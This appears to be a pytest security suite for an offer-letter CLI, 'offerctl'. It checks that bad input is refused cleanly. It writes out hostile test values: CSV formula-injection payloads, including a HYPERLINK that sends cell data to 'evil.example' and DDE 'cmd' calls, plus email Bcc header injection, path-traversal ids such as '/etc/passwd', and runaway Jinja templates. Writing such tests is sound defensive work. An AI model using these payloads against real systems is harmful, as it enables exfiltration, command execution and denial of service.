"""The bad-input attacks of issue 12 (items 7 to 12) and the id handling of issue 13 item 16,
each on a real temporary repository: what a careless user or a hostile file gives offerctl,
and the clear error or finding it must get back — never a traceback, a hang, or a file
written halfway. Read top to bottom, this file is the attack suite's input half (docs/security.md,
"Attack suite: bad input")."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import git
from tests.trust_helpers import new_offer

# --- 7. numbers ------------------------------------------------------------------------------

BAD_AMOUNTS = {
    "1e30": "must be < 1,000,000,000,000",
    "1e309": "must be < 1,000,000,000,000",
    "1" + "0" * 30: "must be < 1,000,000,000,000",  # 10^30 written out
    "9" * 20 + ".99": "must be < 1,000,000,000,000",
    "-1": "must be ≥ 0",
    "12.345": "at most 2 decimal place(s)",
    "0.0100000000000000001": "at most 2 decimal place(s)",  # equal to 0.01 as a binary float
    "NaN": "must be a number",
    ".nan": "must be a number",
    "Infinity": "must be a number",
    "-.inf": "must be a number",
}


@pytest.mark.parametrize("value", sorted(BAD_AMOUNTS))
def test_new_refuses_an_amount_out_of_range_or_precision(offer_repo: Path, cli: Any, value: str) -> None:
    before = git(offer_repo, "rev-parse", "HEAD")
    (offer_repo / "intake.yaml").write_text("candidate: {name: A}\n")
    result = cli(
        "new", "--no-input", "--set", f"compensation.base_salary={value}", "--format", "text", cwd=offer_repo
    )
    assert result.code == 2, result.out + result.err
    assert "Traceback" not in result.err
    assert BAD_AMOUNTS[value] in result.err
    assert git(offer_repo, "rev-parse", "HEAD") == before
    assert not list((offer_repo / "offers").glob("*.yaml"))


def test_amounts_inside_the_range_are_accepted(offer_repo: Path, cli: Any) -> None:
    for value in ("999999999999.99", "0.07", "185000.5", "0"):
        new_offer(offer_repo, cli, compensation__base_salary=value)


HAND_EDITS = ["1E+30", "1e309", "-5", "12.345", ".nan", ".inf", "1" + "0" * 40]
REPO_WIDE = [
    ("check",),
    ("status",),
    ("inbox",),
    ("list",),
    ("report",),
    ("export", "--format", "csv"),
    ("remind",),
    ("headroom", "OFF-2026-5NB2RC8P"),
    ("route", "OFF-2026-5NB2RC8P"),
]


@pytest.mark.parametrize("value", HAND_EDITS)
def test_one_hand_edited_amount_never_takes_down_a_repository_wide_command(
    example_repo: Path, cli: Any, value: str
) -> None:
    """A pending offer hand-edited to an absurd amount: `check` names that file and line;
    every other repository-wide command still answers for the other offers."""
    bad = example_repo / "offers" / "OFF-2026-9KD3VX6Q.yaml"
    text = bad.read_text()
    bad.write_text(re.sub(r"base_salary: [0-9.]+", f"base_salary: {value}", text, count=1))
    line = next(n for n, ln in enumerate(bad.read_text().splitlines(), 1) if "base_salary" in ln)
    for args in REPO_WIDE:
        result = cli(*args, cwd=example_repo)
        assert result.code in (0, 1), (args, result.out, result.err)
        assert "Traceback" not in result.err
    checked = cli("check", "--format", "json", cwd=example_repo).json()
    [finding] = [f for f in checked["findings"] if f["path"] == "offers/OFF-2026-9KD3VX6Q.yaml"]
    assert (finding["code"], finding["line"]) in {("S105", line), ("S104", line), ("S106", line)}
    assert "compensation.base_salary" in finding["message"]
    # the other offers are still shown: the bad file is skipped and said to be skipped
    status = cli("status", cwd=example_repo)
    assert "OFF-2026-5NB2RC8P" in status.out
    assert "offers/OFF-2026-9KD3VX6Q.yaml" in status.err


GARBAGE = [
    (r"^events:", "events: 5\nxevents:"),
    (r"^approvals:", "approvals: 7\nxapprovals:"),
    (r"^compensation:", "compensation: 5\nxcompensation:"),
    (r"^status: .*", "status: [a]"),
    (r"^role:", "role: 5\nxrole:"),
    (r"^id: .*", "id: [x]"),
    (r"at: '[^']*'", "at: 'yesterday'"),
    (r"^start_date: .*", "start_date: 2027-13-45"),
    (r"^candidate:", "candidate:\n  name: [x]\nxcandidate:"),
]


@pytest.mark.parametrize(("pattern", "replacement"), GARBAGE)
def test_a_structurally_broken_file_is_a_finding_in_every_repository_wide_command(
    example_repo: Path, cli: Any, pattern: str, replacement: str
) -> None:
    """Hand edits that break the shape of an offer (a number where a list belongs, a list
    where text belongs): reports, history, CI and every listing keep working."""
    bad = example_repo / "offers" / "OFF-2026-9KD3VX6Q.yaml"
    bad.write_text(re.sub(pattern, replacement, bad.read_text(), count=1, flags=re.M))
    for args in [*REPO_WIDE, ("log", "OFF-2026-9KD3VX6Q"), ("check", "--verify-history")]:
        result = cli(*args, cwd=example_repo)
        assert result.code in (0, 1, 2), (args, result.out, result.err)
        assert "Traceback" not in result.err
        if result.code == 2:  # only the command aimed at the broken offer itself
            assert "OFF-2026-9KD3VX6Q" in " ".join(args) and "OFF-2026-9KD3VX6Q" in result.err, args
    checked = cli("check", "--format", "json", cwd=example_repo).json()
    assert any(f["path"] == "offers/OFF-2026-9KD3VX6Q.yaml" for f in checked["findings"])


def test_a_broken_yaml_file_gives_log_an_input_error_not_a_traceback(example_repo: Path, cli: Any) -> None:
    bad = example_repo / "offers" / "OFF-2026-9KD3VX6Q.yaml"
    bad.write_text(bad.read_text().replace("status:", "status: [", 1))
    result = cli("log", "OFF-2026-9KD3VX6Q", cwd=example_repo)
    assert result.code == 2
    assert "offers/OFF-2026-9KD3VX6Q.yaml:" in result.err
    assert "Traceback" not in result.err


# --- 8. offer ids (and issue 13 item 16) -------------------------------------------------------

NOT_IDS = [
    "OFF-2026-C*",
    "OFF-2026-?QN46WQT",
    "OFF-2026-[0-9]*",
    "../*",
    "../../outside/X",
    "/etc/passwd",
    "**",
    "A" * 5000,
    "OFF-2026-7QN4\n",
    "OFF 2026",
    "offers/OFF-2026-9KD3VX6Q.yaml",
    "-",
    "\x1b[31m",
]


@pytest.mark.parametrize("given", NOT_IDS, ids=lambda s: repr(s[:20]))
@pytest.mark.parametrize("command", ["show", "approve", "route", "log", "render", "submit"])
def test_an_id_that_is_not_an_id_is_a_usage_error_before_any_file_is_read(
    example_repo: Path, cli: Any, command: str, given: str
) -> None:
    outside = example_repo.parent / "outside"
    outside.mkdir(exist_ok=True)
    (outside / "X.yaml").write_text("id: X\nstatus: draft\n")
    before = git(example_repo, "rev-parse", "HEAD")
    result = cli(command, given, cwd=example_repo / "offers")
    assert result.code == 2, (result.out, result.err)
    assert "Traceback" not in result.err
    assert "is not an offer id" in result.err or "no offer" in result.err
    assert "ids look like OFF-2026-7K3QXM2B" in result.err  # a real id has 8 random characters
    assert len(result.err) < 400  # a 5,000-character id is not echoed back
    assert git(example_repo, "rev-parse", "HEAD") == before
    assert git(example_repo, "status", "--porcelain") == ""


@pytest.mark.parametrize("command", ["show", "route", "log", "headroom"])
def test_ids_are_case_insensitive_and_a_unique_prefix_is_enough(
    example_repo: Path, cli: Any, command: str
) -> None:
    for given in ("off-2026-9kd3vx6q", "OFF-2026-9KD3", "9kd3vx", " OFF-2026-9KD3VX6Q\n"):
        result = cli(command, given, cwd=example_repo)
        assert result.code in (0, 1), (given, result.err)
        assert "OFF-2026-9KD3VX6Q" in result.out


def test_a_lowercase_id_approves_and_commits_under_the_real_id(offer_repo: Path, cli: Any) -> None:
    offer_id = new_offer(offer_repo, cli)
    result = cli("submit", offer_id.lower(), cwd=offer_repo)
    assert result.code == 0, result.err
    assert f"Offer-Id: {offer_id}" in git(offer_repo, "log", "-1", "--format=%B")


def test_an_ambiguous_prefix_lists_the_candidates(example_repo: Path, cli: Any) -> None:
    result = cli("show", "off-2026", cwd=example_repo)
    assert result.code == 2
    assert "is ambiguous: it matches OFF-2026-0TB8WD5K, OFF-2026-1VA9KM7E" in result.err
    assert "and 6 more" in result.err
    short = cli("show", "OFF", cwd=example_repo)  # too short to be a prefix: not found
    assert short.code == 2 and "no offer 'OFF'" in short.err


def test_a_near_miss_says_did_you_mean(example_repo: Path, cli: Any) -> None:
    result = cli("show", "OFF-2026-9KD3VX6R", cwd=example_repo)  # last character mistyped
    assert result.code == 2
    assert "no offer 'OFF-2026-9KD3VX6R' in offers/" in result.err
    assert "did you mean OFF-2026-9KD3VX6Q?" in result.err
    swapped = cli("approve", "OFF-2026-9DK3VX6Q", cwd=example_repo)  # two characters swapped
    assert swapped.code == 2 and "did you mean OFF-2026-9KD3VX6Q?" in swapped.err


# --- 11. CSV formula injection ---------------------------------------------------------------


def test_export_csv_neutralises_cells_a_spreadsheet_would_run(offer_repo: Path, cli: Any) -> None:
    import csv
    import io

    new_offer(
        offer_repo,
        cli,
        candidate__name='=HYPERLINK("http://evil.example/?x="&A1,"click")',
        role__title="+cmd|' /C calc'!A0",
        role__location__city="@SUM(1+1)*cmd|' /C calc'!A0",
        candidate__email="-2+3@example.com",
    )
    result = cli("export", "--status", "draft", "--format", "csv", cwd=offer_repo)
    assert result.code == 0, result.err
    [row] = list(csv.DictReader(io.StringIO(result.out)))
    assert row["candidate_name"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert row["title"] == "'+cmd|' /C calc'!A0"
    assert row["city"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["candidate_email"] == "'-2+3@example.com"
    assert row["base_salary"] == "185000"  # numbers stay numbers
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_csv_neutralising_covers_tab_and_carriage_return() -> None:
    from offerctl.reports.export import neutralise

    assert neutralise("\t=1+1") == "'\t=1+1"
    assert neutralise("\r=1") == "'\r=1"
    assert neutralise("Jane") == "Jane"
    assert neutralise(-5) == -5


# --- 10. letters escape exactly once per format ----------------------------------------------

NAME = "Siobhán O'Brien"
TITLE = 'R&D "Lead" <b>x</b> *y*'


def _approved_offer(offer_repo: Path, cli: Any, monkeypatch: pytest.MonkeyPatch, port: int) -> str:
    from tests.test_end_to_end import MANAGER, RECRUITER, Actors, smtp_config

    smtp_config(offer_repo, port)
    actors = Actors(offer_repo, cli, monkeypatch)
    offer_id = new_offer(offer_repo, cli, candidate__name=f'"{NAME}"', role__title=f"'{TITLE}'")
    actors.run(RECRUITER, "2026-11-16T09:00:00Z", "submit", offer_id)
    actors.run(MANAGER, "2026-11-16T12:00:00Z", "approve", offer_id)
    return offer_id


def test_names_with_quotes_and_ampersands_are_escaped_once_in_every_format(
    offer_repo: Path, cli: Any, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    import html as html_mod

    import pypdf

    from tests.smtp_server import smtp_server

    with smtp_server() as inbox:
        offer_id = _approved_offer(offer_repo, cli, monkeypatch, inbox.port)
        letters = {}
        for fmt in ("md", "html", "pdf"):
            out = tmp_path / f"letter.{fmt}"
            result = cli("render", offer_id, "--format", fmt, "-o", str(out), cwd=offer_repo)
            assert result.code == 0, result.err
            letters[fmt] = out
        md = letters["md"].read_text()
        assert f"Dear {NAME}," in md and TITLE in md  # Markdown is not escaped at all
        page = letters["html"].read_text()
        assert "&amp;#" not in page and "&#35;" not in page  # no second escape of an escape
        assert "Dear Siobhán O&#39;Brien," in page or f"Dear {NAME}," in page
        assert "<b>x</b>" not in page  # data never becomes markup
        text = html_mod.unescape(re.sub(r"<[^>]+>", "", page))
        assert f"Dear {NAME}," in text and TITLE in text
        pdf_text = "".join(p.extract_text() for p in pypdf.PdfReader(letters["pdf"]).pages)
        assert f"Dear {NAME}," in pdf_text
        assert 'R&D "Lead" <b>x</b> *y*' in pdf_text.replace("\n", " ")
        assert "&#" not in pdf_text and "&amp;" not in pdf_text

        sent = cli("send", offer_id, "--via", "email", cwd=offer_repo)
        assert sent.code == 0, sent.err
        [mail] = inbox.mails
        assert mail["To"].addresses[0].display_name == NAME
        assert mail["Subject"].endswith(TITLE)
        body = mail.get_body(("plain",))
        assert body is not None
        assert "Dear Siobhán," in body.get_content() and TITLE in body.get_content()
        (attachment,) = list(mail.iter_attachments())
        out = tmp_path / "mailed.pdf"
        out.write_bytes(attachment.get_content())
        mailed = "".join(p.extract_text() for p in pypdf.PdfReader(out).pages)
        assert f"Dear {NAME}," in mailed and "&#" not in mailed


# --- 12. control characters in text, disk full, git and SMTP failures ---------------------------


def point_smtp_at(repo: Path, port: int) -> None:
    """The example repository's smtp settings, aimed at the loopback test server."""
    config = repo / "offerctl.yaml"
    text = config.read_text().replace("host: localhost\n  port: 1025", f"host: 127.0.0.1\n  port: {port}")
    config.write_text(text.replace("  password_env: OFFERCTL_SMTP_PASSWORD\n", ""))
    git(repo, "commit", "-qam", "smtp on loopback")


CONTROL = [
    "Jane\r\nBcc: victim@example.com",
    "Jane\nDoe",
    "Jane\x00",
    "Jane\x1b[2J",
    "Jane\u2028Doe",
    "Jane\tDoe",
]


@pytest.mark.parametrize("value", CONTROL, ids=repr)
@pytest.mark.parametrize("field", ["candidate.name", "role.title", "role.location.city", "role.department"])
def test_new_refuses_control_characters_in_one_line_fields(
    offer_repo: Path, cli: Any, field: str, value: str
) -> None:
    import json

    from tests.helpers import intake

    before = git(offer_repo, "rev-parse", "HEAD")
    (offer_repo / "intake.yaml").write_text(intake())
    for written in (json.dumps(value), value):  # a YAML-quoted escape, and the raw characters
        result = cli(
            "new", "--no-input", "--from", "intake.yaml", "--set", f"{field}={written}", cwd=offer_repo
        )
        assert result.code == 2, (result.out, result.err)
        assert "Traceback" not in result.err
        assert "one line of text without control characters" in result.err, result.err
    assert git(offer_repo, "rev-parse", "HEAD") == before


def test_a_hand_edited_line_break_in_a_name_is_a_finding_and_send_refuses(
    example_repo: Path, cli: Any, smtp_inbox: Any
) -> None:
    point_smtp_at(example_repo, smtp_inbox.port)
    path = example_repo / "offers" / "OFF-2026-2WF8JT4M.yaml"  # approved, ready to send
    path.write_text(
        path.read_text().replace("name: Daniel Kim", 'name: "Daniel Kim\\r\\nBcc: all@example.com"', 1)
    )
    line = next(n for n, ln in enumerate(path.read_text().splitlines(), 1) if "Bcc" in ln)
    checked = cli("check", "--format", "json", cwd=example_repo).json()
    [finding] = [f for f in checked["findings"] if f["offer"] == "OFF-2026-2WF8JT4M"]
    assert (finding["code"], finding["line"]) == ("S105", line)
    assert "'candidate.name' must be one line of text without control characters" in finding["message"]
    assert "Bcc" not in finding["message"]  # candidate data is confidential: never echoed
    sent = cli("send", "OFF-2026-2WF8JT4M", "--via", "email", cwd=example_repo)
    assert sent.code == 2, sent.err
    assert f"offers/OFF-2026-2WF8JT4M.yaml:{line}:" in sent.err
    assert "Traceback" not in sent.err
    assert smtp_inbox.messages == []


def _clone(remote: Path, target: Path, email: str) -> Path:
    git(remote.parent, "clone", "-q", str(remote), str(target))
    git(target, "config", "user.email", email)
    return target


def test_a_push_refused_by_a_server_hook_shows_the_hooks_message(
    example_repo: Path, cli: Any, tmp_path: Path
) -> None:
    remote = tmp_path / "remote.git"
    git(tmp_path, "clone", "-q", "--bare", str(example_repo), str(remote))
    hook = remote / "hooks" / "pre-receive"
    hook.write_text("#!/bin/sh\necho 'offers are frozen until Monday: ask #people-ops' >&2\nexit 1\n")
    hook.chmod(0o755)
    local = _clone(remote, tmp_path / "local", "rita.ramos@acme.example")
    before = git(local, "rev-parse", "HEAD")
    result = cli("accept", "OFF-2026-6RM1PQ9C", "--push", "--push-retries", "5", cwd=local)
    assert result.code == 2
    assert "remote: offers are frozen until Monday: ask #people-ops" in result.err
    assert "(pre-receive hook declined)" in result.err
    assert "last: Done" not in result.err and "5 times" not in result.err  # one try: a rule, not a race
    assert git(local, "rev-parse", "HEAD") == before
    assert git(local, "status", "--porcelain") == ""


def test_a_fetch_error_is_reported_whole(example_repo: Path, cli: Any, tmp_path: Path) -> None:
    git(example_repo, "remote", "add", "origin", str(tmp_path / "no-such-remote"))
    result = cli("accept", "OFF-2026-6RM1PQ9C", "--push", cwd=example_repo)
    assert result.code == 2
    assert "does not appear to be a git repository" in result.err  # the cause, not only the tail
    assert "Could not read from remote repository" in result.err
    assert "Traceback" not in result.err


@pytest.fixture
def tiny_disk(tmp_path: Path) -> Any:
    """A 2 MiB tmpfs (a real full disk: ENOSPC), where the machine lets us mount one (root
    with CAP_SYS_ADMIN); skipped elsewhere — ``test_a_write_over_the_file_size_limit…``
    covers the same code path with RLIMIT_FSIZE everywhere."""
    import subprocess

    mount = tmp_path / "tiny"
    mount.mkdir()
    proc = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=2m", "tmpfs", str(mount)], capture_output=True, check=False
    )
    if proc.returncode != 0:
        pytest.skip("cannot mount a tmpfs here (needs root)")
    try:
        yield mount
    finally:
        subprocess.run(["umount", "-l", str(mount)], check=False)


def _fill(disk: Path, leave_pages: int) -> None:
    """Fill the disk, then give back ``leave_pages`` pages of 4 KiB."""
    import os

    filler = disk / "filler"
    fd = os.open(filler, os.O_WRONLY | os.O_CREAT | os.O_TRUNC)
    try:
        while True:
            os.write(fd, b"\0" * 65536)
    except OSError:
        pass
    try:
        while True:
            os.write(fd, b"\0" * 512)
    except OSError:
        pass
    os.ftruncate(fd, max(0, os.fstat(fd).st_size - leave_pages * 4096))
    os.close(fd)


def _tree(repo: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(repo)): p.read_bytes() for p in sorted((repo / "offers").rglob("*")) if p.is_file()
    }


def test_a_full_disk_gives_a_clear_error_and_leaves_the_repository_as_it_was(
    tiny_disk: Path, cli: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`new` and `approve` on a disk with 0, 1, 2 … 11 free pages: every run either lands
    whole (file written and committed) or exits 2 saying the disk is full, with the offer
    files, HEAD, the index and the working tree exactly as before."""
    from offerctl.setup.scaffold import init_repo
    from tests.helpers import intake

    repo = init_repo(tiny_disk / "repo").root
    offer_id = new_offer(repo, cli)
    cli("submit", offer_id, cwd=repo)
    monkeypatch.setenv("GIT_AUTHOR_EMAIL", "hiring.manager@example.com")
    outcomes = set()
    for pages in range(12):
        for args in (
            ("approve", offer_id),
            ("new", "--no-input", "--from", str(tiny_disk.parent / "intake.yaml")),
        ):
            (tiny_disk.parent / "intake.yaml").write_text(intake())
            head, files, status = (
                git(repo, "rev-parse", "HEAD"),
                _tree(repo),
                git(repo, "status", "--porcelain"),
            )
            _fill(tiny_disk, pages)
            result = cli(*args, cwd=repo)
            (tiny_disk / "filler").unlink()
            assert "Traceback" not in result.err
            if result.code == 0:
                outcomes.add("landed")
                assert git(repo, "rev-parse", "HEAD") != head
                assert git(repo, "status", "--porcelain") == status
                git(repo, "reset", "-q", "--hard", head.strip())  # the next size starts equal
                continue
            outcomes.add("refused")
            assert result.code == 2, result.err
            assert "disk is full" in result.err or "disk may be full" in result.err, result.err
            assert git(repo, "rev-parse", "HEAD") == head
            assert _tree(repo) == files, (args, result.err)
            assert git(repo, "status", "--porcelain") == status
    assert outcomes == {"landed", "refused"}  # the sweep crossed the edge


def test_a_write_over_the_file_size_limit_is_a_clear_error_and_changes_nothing(
    offer_repo: Path, cli: Any
) -> None:
    """Simulated, on any machine: RLIMIT_FSIZE makes the offer write fail with EFBIG, the
    same path as ENOSPC (`yamlio.atomic_write_bytes` → StorageError; `edit.save` undoes)."""
    import os
    import resource
    import subprocess
    import sys

    offer_id = new_offer(offer_repo, cli)
    assert cli("submit", offer_id, cwd=offer_repo).code == 0
    head, before = git(offer_repo, "rev-parse", "HEAD"), _tree(offer_repo)

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (1000, 1000))

    proc = subprocess.run(
        [sys.executable, "-m", "offerctl", "approve", offer_id],
        cwd=offer_repo,
        capture_output=True,
        text=True,
        env={**os.environ, "GIT_AUTHOR_EMAIL": "hiring.manager@example.com"},
        preexec_fn=limit,
        timeout=60,
        check=False,
    )
    assert proc.returncode == 2, proc.stderr
    assert "File too large" in proc.stderr and "nothing was changed" in proc.stderr
    assert "Traceback" not in proc.stderr
    assert git(offer_repo, "rev-parse", "HEAD") == head
    assert _tree(offer_repo) == before
    assert git(offer_repo, "status", "--porcelain") == ""


class _StallAfterData:
    """An SMTP server that takes the whole message, then never answers (a hung relay)."""

    def __init__(self) -> None:
        self.received: list[bytes] = []

    async def handle_DATA(self, server: Any, session: Any, envelope: Any) -> str:
        import asyncio

        self.received.append(envelope.content)
        await asyncio.sleep(3600)
        return "250 never"  # pragma: no cover


def test_a_server_that_hangs_after_data_makes_delivery_unknown_not_nothing_sent(
    example_repo: Path, cli: Any
) -> None:
    import time

    from aiosmtpd.controller import Controller

    from tests.smtp_server import free_port

    handler = _StallAfterData()
    port = free_port()
    controller = Controller(handler, hostname="127.0.0.1", port=port)
    controller.start()
    try:
        point_smtp_at(example_repo, port)
        config = example_repo / "offerctl.yaml"
        config.write_text(
            config.read_text().replace("  security: none\n", "  security: none\n  timeout: 1\n", 1)
        )
        git(example_repo, "commit", "-qam", "short smtp timeout")
        head = git(example_repo, "rev-parse", "HEAD")
        started = time.monotonic()
        result = cli("send", "OFF-2026-2WF8JT4M", "--via", "email", cwd=example_repo)
        elapsed = time.monotonic() - started
    finally:
        controller.stop()
    assert len(handler.received) == 1, elapsed  # the server has the whole letter
    assert result.code == 2, result.err
    assert "delivery to" in result.err and "is UNKNOWN" in result.err
    assert "nothing was sent" not in result.err
    assert "may reach them twice" in result.err
    assert elapsed < 15, elapsed  # bounded by smtp.timeout (1 s), not by the server
    # decided and documented: an unknown delivery records nothing (status stays approved)
    assert git(example_repo, "rev-parse", "HEAD") == head
    assert "status: approved" in (example_repo / "offers" / "OFF-2026-2WF8JT4M.yaml").read_text()


# --- 9. unbounded work: CEL rules, Jinja templates, input sizes ---------------------------------


def _routing_rule(repo: Path, when: str) -> int:
    """Append a rule with ``when`` to policies/routing.yaml and commit; the `when` line."""
    path = repo / "policies" / "routing.yaml"
    text = path.read_text().rstrip("\n") + "\n"
    rule = (
        "  - id: nested\n    stage: finance\n    description: an attack\n"
        f"    when: '{when}'\n    require: {{role: finance}}\n    covers: [compensation]\n"
    )
    path.write_text(text + rule)
    git(repo, "commit", "-qam", "nested rule")
    return len((text + rule).splitlines()) - 2


def test_a_rule_with_deeply_nested_comprehensions_is_refused_at_its_line_not_run(
    offer_repo: Path, cli: Any
) -> None:
    """Five nested .all() over 200-item lists never finished (>120 s). Refused statically
    (P230 at the rule's line), counted as triggered (fails closed); nothing runs it."""
    import time

    offer_id = new_offer(offer_repo, cli)
    items = "[" + ",".join(str(i) for i in range(200)) + "]"
    when = "true"
    for depth in range(5):
        when = f"{items}.all(x{depth}, {when})"
    nested = "[1,2].all(a, [1,2].all(b, [1,2].all(c, true)))"  # short, but three levels
    for expression, code_text in ((when, "characters"), (nested, "nests 3 comprehensions")):
        path = offer_repo / "policies" / "routing.yaml"
        original = path.read_text()
        line = _routing_rule(offer_repo, expression)
        for args in (("check", "--format", "json"), ("route", offer_id, "--format", "json")):
            started = time.monotonic()
            result = cli(*args, cwd=offer_repo)
            assert time.monotonic() - started < 30
            assert "Traceback" not in result.err
        checked = cli("check", "--format", "json", cwd=offer_repo).json()
        [finding] = [f for f in checked["findings"] if f["code"] == "P230"]
        assert (finding["path"], finding["line"]) == ("policies/routing.yaml", line)
        assert code_text in finding["message"] and "rule nested" in finding["message"]
        path.write_text(original)
        git(offer_repo, "commit", "-qam", "restore")


def test_two_levels_over_the_largest_lists_allowed_stay_fast(offer_repo: Path, cli: Any) -> None:
    """The bound the limits give: a rule at the limits (two levels, 1,000 characters) over
    an offer with the most clauses the schema allows evaluates quickly."""
    import time

    clauses = ",".join(f"c{i}" for i in range(50))
    offer_id = new_offer(offer_repo, cli)
    items = "[" + ",".join(str(i % 10) for i in range(240)) + "]"
    _routing_rule(
        offer_repo,
        f"{items}.all(a, {items}.exists(b, a == 11))"
        " || offer.clauses.all(x, offer.clauses.exists(y, y == x))",
    )
    path = offer_repo / "offers" / f"{offer_id}.yaml"
    path.write_text(re.sub(r"^clauses: .*$", f"clauses: [{clauses}]", path.read_text(), flags=re.M))
    started = time.monotonic()
    result = cli("route", offer_id, "--format", "json", cwd=offer_repo)
    assert result.code in (0, 1), result.err
    assert time.monotonic() - started < 10


def test_new_from_an_endless_input_stops_at_the_size_limit(offer_repo: Path, cli: Any) -> None:
    """`new --from /dev/zero` grew to 9.6 GB in 6 s; now it reads 1 MiB and stops (also stdin)."""
    import os
    import resource
    import subprocess
    import sys

    def cap() -> None:  # fail fast instead of eating the machine if the cap regressed
        resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))

    for args, stdin in ((["--from", "/dev/zero"], None), (["--from", "-"], "/dev/zero")):
        with open(stdin or os.devnull, "rb") as feed:
            proc = subprocess.run(
                [sys.executable, "-m", "offerctl", "new", "--no-input", *args],
                cwd=offer_repo,
                stdin=feed,
                capture_output=True,
                text=True,
                preexec_fn=cap,
                timeout=60,
                check=False,
            )
        assert proc.returncode == 2, proc.stderr
        assert "larger than 1,048,576 bytes" in proc.stderr
        assert "Traceback" not in proc.stderr
    assert git(offer_repo, "status", "--porcelain") == ""


RUNAWAY_TEMPLATES = {
    "nested-range": "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
    "nested-steps": "{% for i in range(10000) %}{% for j in range(10000) %}{% endfor %}{% endfor %}",
    "repeat": "{{ ('x' * 100000) * 100000 }}",
    "double": "{% set ns = namespace(s='x') %}{% for i in range(64) %}"
    "{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s }}",
    "list-repeat": "{{ ([1] * 100000) * 100000 }}",
    "concat": "{% set ns = namespace(s=[1]) %}{% for i in range(64) %}"
    "{% set ns.s = ns.s + ns.s %}{% endfor %}",
    "center": "{{ 'x' | center(1000000000) }}",
    "method": "{{ 'x'.ljust(10 ** 9) }}",
    "power": "{{ 9 ** 9 ** 9 ** 9 ** 9 ** 9 }}",  # left-associative: the digits explode
    "format-filter": "{{ '%0999999999d' | format(1) }}",
    "percent": "{{ '%0999999999d' % 1 }}",
    "str-format": "{{ '{:>999999999}'.format(1) }}",
    "big-output": "{% for i in range(5000) %}{{ 'y' * 100000 }}{% endfor %}",
}


@pytest.mark.parametrize("name", sorted(RUNAWAY_TEMPLATES))
def test_a_runaway_template_is_stopped_with_a_finding_at_its_line(example_repo: Path, name: str) -> None:
    """Run in a child with 1.5 GB of address space and a 60 s timeout: a regression fails
    fast (MemoryError / timeout) instead of taking the machine down."""
    import json
    import os
    import resource
    import subprocess
    import sys
    import time

    template = example_repo / "letter_templates" / "attack.md.j2"
    template.write_text(f"# Offer\n\nDear {{{{ candidate.name }}}},\n\n{RUNAWAY_TEMPLATES[name]}\n")

    def cap() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (1536 << 20, 1536 << 20))

    started = time.monotonic()
    proc = subprocess.run(
        [sys.executable, "-m", "offerctl", "check", "--no-cache", "--format", "json"],
        cwd=example_repo,
        capture_output=True,
        text=True,
        env=os.environ,
        preexec_fn=cap,
        timeout=120,
        check=False,
    )
    elapsed = time.monotonic() - started
    assert "Traceback" not in proc.stderr and "MemoryError" not in proc.stderr, proc.stderr[-2000:]
    findings = json.loads(proc.stdout)["findings"]
    mine = [f for f in findings if f["path"] == "letter_templates/attack.md.j2"]
    assert mine, findings
    assert {f["code"] for f in mine} == {"L420"}, mine
    assert all(f["line"] == 5 for f in mine if f["line"] is not None), mine
    assert elapsed < 60


def test_a_runaway_template_stops_render_with_a_clear_error(example_repo: Path, cli: Any) -> None:
    path = example_repo / "offers" / "OFF-2026-2WF8JT4M.yaml"
    path.write_text(path.read_text().replace("\nclauses:", "\nletter: {template: attack.md.j2}\nclauses:", 1))
    (example_repo / "letter_templates" / "attack.md.j2").write_text(
        "Dear {{ candidate.name }},\n{{ ('x' * 100000) * 100000 }}\n"
    )
    result = cli("render", "OFF-2026-2WF8JT4M", cwd=example_repo)
    assert result.code == 2, (result.out[:200], result.err)
    assert "letter_templates/attack.md.j2:2:" in result.err
    assert "repeating 100,000 items 100,000 times" in result.err
